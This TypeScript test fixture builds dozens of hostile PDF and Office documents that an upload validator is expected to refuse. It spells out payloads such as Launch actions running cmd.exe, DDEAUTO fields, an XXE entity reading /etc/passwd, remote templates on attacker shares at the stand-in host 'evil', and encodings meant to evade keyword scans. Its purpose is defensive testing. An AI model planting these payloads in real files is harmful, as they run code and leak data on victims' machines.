import { deflateSync } from 'node:zlib';
import type { FileKindName } from '#contract/files/file-kinds.ts';
import { type Hostile, main, office, packedPdf, pdf, relation, typesOf } from './hostile-files.ts';

const text = (content: string) => Buffer.from(content);
const refused = (rows: [kind: FileKindName, bytes: Buffer, about: string][]): Hostile[] =>
  rows.map(([kind, bytes, about]) => ({ kind, name: 'a.docx', bytes, about, end: 'refused' }));

/** A PDF whose catalogue refers to a stream with this dictionary and content. */
const streamed = (dictionary: string, content: Buffer | string, about = '') =>
  Buffer.concat([
    text(`%PDF-1.7\n1 0 obj<</Type/Catalog${about}>>endobj\n2 0 obj<<${dictionary}/Length ${content.length}>>stream\n`),
    Buffer.from(content),
    text('\nendstream endobj\ntrailer<</Root 1 0 R>>\nstartxref\n9\n%%EOF\n'),
  ]);
const address = '/S/URI/URI(http://evil/)';
const action = '<</S/JavaScript/JS(app.alert(1))>>';
const untyped = (objects: string, first = '4') => {
  const packed = deflateSync(text(objects));
  return streamed(`/N 1/First ${first}/Filter/FlateDecode`, packed);
};

const pdfs = refused([
  ['resumeFile', pdf('/Names<</EmbeddedFiles<</Names[(a.exe) 3 0 R]>>>>'), 'a PDF with a tree of files'],
  ['chatFile', pdf('/A<</Type/Filespec/F(a.exe)/EF<</F 5 0 R>>>>'), 'a PDF with a file specification'],
  ['chatFile', pdf('/A<</F(a.exe)/EF 5 0 R>>'), 'a PDF with a file behind a reference'],
  ['chatFile', pdf('/AF[3 0 R]'), 'a PDF with associated files'],
  ['chatFile', pdf('/AF 3 0 R'), 'a PDF with associated files behind a reference'],
  ['chatFile', streamed('/Type/EmbeddedFile', 'MZ'), 'a PDF with a program as a stream'],
  ['chatFile', pdf('/A<</Subtype/FileAttachment/FS 3 0 R>>'), 'a PDF with a pinned file'],
  ['chatFile', pdf('/OpenAction<</S/SubmitForm/F(http://evil/)>>'), 'a PDF that submits a form'],
  ['chatFile', pdf('/OpenAction<</S/ImportData/F(a.fdf)>>'), 'a PDF that imports data'],
  ['chatFile', pdf('/OpenAction<</S/GoToR/F(\\\\\\\\evil\\\\a.pdf)/D[0/Fit]>>'), 'a PDF that opens another'],
  ['chatFile', pdf('/OpenAction<</S/GoToE/T<</R/C/N(a.pdf)>>>>'), 'a PDF that opens one in itself'],
  ['chatFile', pdf('/A<</Subtype/RichMedia/RichMediaContent 3 0 R>>'), 'a PDF with rich media'],
  ['chatFile', pdf('/A<</Subtype/3D/3DD 3 0 R>>'), 'a PDF with a scene'],
  ['chatFile', pdf('/A<</Subtype/Movie/Movie<</F(\\\\\\\\evil\\\\a.avi)>>>>'), 'a PDF with a film of another machine'],
  ['chatFile', pdf('/A<</Subtype/Screen/A<</S/Rendition/OP 0>>>>'), 'a PDF with a screen'],
  ['chatFile', pdf('/OpenAction<</S/URI/URI(http://evil/)>>'), 'a PDF that opens an address'],
  [
    'chatFile',
    pdf('/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next[<</S/URI/URI(http://evil/)>>]>>'),
    'a PDF that opens an address after a page',
  ],
  ['chatFile', pdf('/AA<</WC<</S/U#52I/URI(http://evil/)>>>>'), 'a PDF that opens an address when closed'],
  ['chatFile', pdf(`/OpenAction 2 0 R>>endobj\n2 0 obj<<${address}`), 'a PDF that opens an address in another object'],
  [
    'chatFile',
    pdf(`/AA 2 0 R>>endobj\n2 0 obj<</O 3 0 R>>endobj\n3 %\n0 obj<<${address}`),
    'a PDF that opens an address over two objects',
  ],
  [
    'chatFile',
    pdf(`/OpenAction 2 0 R>>endobj\n2 0 obj<</S/GoTo/D[9 0 R/Fit]/Next[3 0 R]>>endobj\n3 0 obj<<${address}`),
    'a PDF that opens an address in a chain',
  ],
  ['chatFile', packedPdf(`3 0 <<${address}>>`, undefined, '/OpenAction 3 0 R'), 'a PDF that opens a packed address'],
  [
    'chatFile',
    pdf('/OpenAction 2 0 R>>endobj\n2 0 obj<</S 3 0 R/URI(http://evil/)>>endobj\n3 0 obj/URI endobj 4 0 obj<<'),
    'a PDF with an action of an indirect kind',
  ],
  ['chatFile', pdf('/OpenAction<</S/Thread/F(a.pdf)/D 0>>'), 'a PDF that opens the articles of another'],
  ['chatFile', streamed('/F(http://evil.example/a)', 'x'), 'a PDF with a stream that lies elsewhere'],
  ['chatFile', pdf('/AcroForm<</Fields[]/XFA 3 0 R>>'), 'a PDF with a dynamic form'],
  ['chatFile', pdf(`/Names<</JavaScript 3 0 R>>`), 'a PDF with a tree of scripts'],
  ['chatFile', pdf('/AA<</O<</S 3 0 R/JS 4 0 R>>>>'), 'a PDF with an action of an indirect name'],
  ['chatFile', pdf('/A<</Type/StructElem/S/JavaScript/JS(x)>>'), 'a PDF with a script that says it is a style'],
  ['chatFile', pdf('/OpenAction<</S/JavaScript/S/GoTo/JS 3 0 R>>'), 'a PDF with an action of two kinds'],
  ['chatFile', pdf('/X[>>/OpenAction<</S/Launch/F(cmd.exe)>>'), 'a PDF with brackets that do not match'],
  ['chatFile', pdf(`/X<</Y endobj /OpenAction${action}>>`), 'a PDF with an object that ends early'],
  ['chatFile', pdf(`/X%)>>\n/OpenAction${action}`), 'a PDF with a comment'],
  ['chatFile', streamed('', `\n9 0 obj${action}endobj`), 'a PDF with an object in a stream'],
  ['chatFile', streamed('', `\n9%\n0%\nobj${action}endobj`), 'a PDF with an object in a stream behind comments'],
  ['chatFile', untyped(`3 0 ${action}`), 'a PDF with packed objects that do not say so'],
  ['chatFile', untyped('3 1 (<</S/Launch/F(cmd.exe)>>)'), 'a PDF with a packed object in a string'],
  ['chatFile', untyped(`3 0 ${action}`, '7 0 R'), 'a PDF with packed objects at an indirect place'],
  ['chatFile', packedPdf(`3 0 ${action}`, '/Filter 9 0 R'), 'a PDF with packed objects of an indirect filter'],
]);

const word = (body: string) => office({ 'word/document.xml': body });
const relations = (inside: string) => office({ 'word/_rels/document.xml.rels': relation(inside) });
const external = (type: string, target: string) =>
  relations(`Type="http://x/${type}" Target="${target}" TargetMode="External"`);
const types = (...overrides: [part: string, type: string][]) =>
  typesOf(main).replace(
    '</Types>',
    `${overrides.map(([part, type]) => `<Override PartName="${part}" ContentType="${type}"/>`).join('')}</Types>`,
  );
const doctype = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>';
const utf7 = '<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE x+AD4-<x/>';
const bigEndian = Buffer.from(doctype, 'utf16le').swap16();
const field = (...codes: string[]) =>
  word(
    `<w:p><w:fldChar w:fldCharType="begin"/>${codes.map((code) => `<w:instrText>${code}</w:instrText>`).join('')}<w:fldChar w:fldCharType="end"/></w:p>`,
  );
const quoted = `<w:p><w:fldChar w:fldCharType="begin"/><w:fldChar w:fldCharType="begin"/><w:instrText>QUOTE 68 68 69</w:instrText><w:fldChar w:fldCharType="separate"/><w:fldChar w:fldCharType="end"/><w:instrText> c:\\cmd.exe</w:instrText><w:fldChar w:fldCharType="end"/></w:p>`;
const chunk = (type: string) =>
  office(
    {
      'word/_rels/document.xml.rels': relation('Type="http://x/aFChunk" Target="chunk.dat"'),
      'word/chunk.dat': '<html/>',
    },
    types(['/word/chunk.dat', type]),
  );
const nestedMacro = office({}, typesOf('application/vnd.ms-word.document.macroEnabled.main+xml'));

const offices = refused([
  ['chatFile', office({ 'word/x.xml': Buffer.from(doctype, 'utf16le') }), 'a document type in UTF-16 without a mark'],
  ['chatFile', office({ 'word/x.xml': bigEndian }), 'a document type in the other UTF-16 without a mark'],
  ['chatFile', office({ 'word/x.xml': utf7 }), 'a document type in UTF-7'],
  ['chatFile', office({ 'word/x.xml': `<?x <!-- ?>${doctype}<!-- -->` }), 'a document type behind an instruction'],
  [
    'chatFile',
    office({ 'word/x.xml': `<!-- <![CDATA[ -->${doctype}<!-- ]]> -->` }),
    'a document type between comments',
  ],
  [
    'chatFile',
    office({ 'word/data.dat': doctype }, types(['/word/data.dat', 'application/xml'])),
    'a document type in a part of another name',
  ],
  ['chatFile', office({ 'word/x.xml': Buffer.concat([Buffer.from('4c6fa794', 'hex')]) }), 'EBCDIC'],
  ['chatFile', external('attachedTemplate', '\\\\evil\\share\\x.dotm'), 'a template on a share'],
  ['chatFile', external('attachedTemplate', 'file://evil/share/x.dotm'), 'a template on a share by its address'],
  ['chatFile', external('attachedTemplate', 'file:////evil/x.dotm'), 'a template on a share with more slashes'],
  ['chatFile', external('attachedTemplate', 'file:///%5C%5Cevil%5Cx.dotm'), 'a template on a share in escapes'],
  ['chatFile', external('attachedTemplate', '&#104;ttp://evil/x.dotm'), 'a template from elsewhere in references'],
  ['chatFile', external('attachedTemplate', 'ht&#10;tp://evil/x.dotm'), 'a template from elsewhere over two lines'],
  ['chatFile', external('image', '\\\\evil\\x.png'), 'a picture on a share'],
  ['chatFile', external('oleObject', 'mhtml:http://evil/x!x-usc:y'), 'an object from elsewhere'],
  ['chatFile', external('frame', 'http://evil/'), 'a frame'],
  ['chatFile', external('hyperlink', 'ms-msdt:/id x'), 'a link that starts a program'],
  [
    'chatFile',
    relations('Type="http://x/unheard" Target="http://evil/" TargetMode="External"'),
    'a relationship of an unknown type',
  ],
  ['chatFile', field('DDEAUTO c:\\\\cmd.exe "/k calc"'), 'a DDE field'],
  ['chatFile', field(' D', 'DE c:\\\\cmd.exe'), 'a DDE field in parts'],
  ['chatFile', field('&#68;DEAUTO x'), 'a DDE field in references'],
  ['chatFile', field('<![CDATA[DDEAUTO x]]>'), 'a DDE field in CDATA'],
  ['chatFile', word('<w:fldSimple w:instr="DDEAUTO c:\\\\cmd.exe"/>'), 'a simple DDE field'],
  ['chatFile', field(' INCLUDETEXT "http://evil/x.docx" '), 'a field that includes a text from elsewhere'],
  ['chatFile', field(' LINK Excel.Sheet.8 "', '\\\\\\\\evil\\\\x.xls" \\a'), 'a field that links to a share'],
  ['chatFile', word('<v:imagedata src="http://evil/x.png"/>'), 'a drawing with a picture from elsewhere'],
  ['chatFile', word('<v:fill src="\\\\evil\\x.png"/>'), 'a drawing filled from a share'],
  [
    'chatFile',
    relations('Type="http://x/attachedTemplate" Target="\\\\evil\\x.dotm"'),
    'a share that is not called external',
  ],
  [
    'chatFile',
    office({ 'xl/worksheets/sheet1.xml': "<c><f>SUM(A1)+cmd|'/c calc'!A0</f></c>" }),
    'a formula that starts a program',
  ],
  [
    'chatFile',
    office({ 'xl/workbook.xml': '<definedName name="x">MSEXCEL|Book!A0</definedName>' }),
    'a name that starts a program',
  ],
  ['chatFile', word(quoted), 'a field whose name is the result of another'],
  [
    'chatFile',
    office({ 'xl/externalLinks/externalLink1.xml': '<x:externalLink><x:ddeLink ddeService="cmd"/></x:externalLink>' }),
    'a DDE link of a workbook',
  ],
  [
    'chatFile',
    office({ 'xl/connections.xml': '<x:connection id="1" name="a" refreshOnLoad="1"/>' }),
    'a connection that is read when the workbook is opened',
  ],
  ['chatFile', chunk('text/html'), 'a page as a chunk'],
  ['chatFile', chunk('message/rfc822'), 'a mail as a chunk'],
  ['chatFile', chunk('application/rtf'), 'an RTF as a chunk'],
  ['chatFile', word('<a:hlinkClick action="ppaction://program"/>'), 'a button that starts a program'],
  [
    'chatFile',
    office({ 'word/embeddings/x.docx': nestedMacro }),
    'a document with macros in a document, under another name',
  ],
  ['chatFile', office({ 'word/media/image1.png': nestedMacro }), 'a document with macros as a picture'],
  [
    'chatFile',
    office({ 'word/code.dat': 'x' }, types(['/word/code.dat', 'application/vnd.ms-office.vbaProject'])),
    'a macro under another name',
  ],
  ['chatFile', relations('Type="http://x/vbaProject" Target="code.dat"'), 'a macro by its relationship'],
  [
    'chatFile',
    office({ 'word/x.xml': '<x/>' }, types(['/word/x.xml', 'application/vnd.ms-office.activeX+xml'])),
    'a control under another name',
  ],
]);

/** Documents that act when opened, in the spellings by which a search for words is avoided. */
export const hostileDocuments: Hostile[] = [...pdfs, ...offices];
